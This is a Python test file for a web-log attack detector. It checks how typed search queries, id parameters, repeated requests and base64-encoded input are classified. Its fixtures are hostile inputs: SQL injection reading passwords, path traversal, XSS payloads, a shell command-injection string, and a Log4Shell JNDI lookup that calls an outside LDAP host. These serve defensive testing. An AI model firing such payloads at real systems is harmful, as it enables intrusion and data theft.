"""Attacks in what a person types: seen, never acted on, unless a tool types them."""
import json
import subprocess
import urllib.parse

from conftest import ROOT, SEKISHO, access_line

TYPED = [
    "1' UNION SELECT name, password FROM users explained",
    "../../tsconfig.json",
    "How to alert('hi') in <script>?",
    "; cat /etc/hosts in bash",
    "<img src=x onerror=print()> what is",
]


def scan(*targets):
    log = "".join(access_line(i, t) for i, t in enumerate(targets))
    args = [SEKISHO, "scan", "--parser", "combined", "--rules", str(ROOT / "rules"), "-"]
    out = subprocess.run(args, input=log, capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    rows = [json.loads(line) for line in out.stdout.splitlines()]
    return [r for r in rows if r["kind"] == "event"], [r for r in rows if r["kind"] == "alert"]


def target(parameter, text):
    return f"/find?lang=en&{parameter}={urllib.parse.quote(text)}&page=2"


def levels(events):
    return {d["level"] for e in events for d in e["detections"] if d["category"] not in ("crawler", "recon")}


def test_a_search_for_attacks_is_seen_at_level_low_and_starts_no_alert():
    events, alerts = scan(*(target(p, t) for p, t in zip(["q", "title", "Search", "comment", "text"], TYPED)))
    assert len(events) == len(TYPED)
    assert levels(events) == {"low"}
    assert alerts == []


def test_the_same_where_nobody_types_is_an_attack():
    events, alerts = scan(*(target("id", t) for t in TYPED))
    assert levels(events) - {"low"} != set()
    assert "web.agreement" in {a["rule"] for a in alerts}


def test_a_match_that_begins_before_the_typed_value_is_no_quotation():
    events, _ = scan("/find?id=1%20union%20all%20select%201,2,user()--&q=x")
    assert levels(events) - {"low"} != set()


def test_ten_in_a_minute_are_a_tool():
    few = [target("q", t) for t in TYPED]
    _, alerts = scan(*few)
    assert alerts == []
    events, alerts = scan(*(few * 5))
    assert len(events) == 25
    assert [a["rule"] for a in alerts] == ["web.search.attack"]
    assert alerts[0]["count"] >= 10 and alerts[0]["entity"]["value"] == "203.0.113.7"


def test_conclusive_evidence_counts_wherever_it_is():
    _, alerts = scan(target("q", "${jndi:ldap://203.0.113.9/a}"))
    assert [a["rule"] for a in alerts] == ["web.log4shell.jndi"]


def test_hidden_in_base64_it_is_quoted_too():
    events, alerts = scan(target("q", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="), target("v", "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"))
    forms = [{d["form"] for d in e["detections"]} for e in events]
    assert forms == [{"base64"}, {"base64"}]
    assert levels(events[1:]) - {"low"} != set()
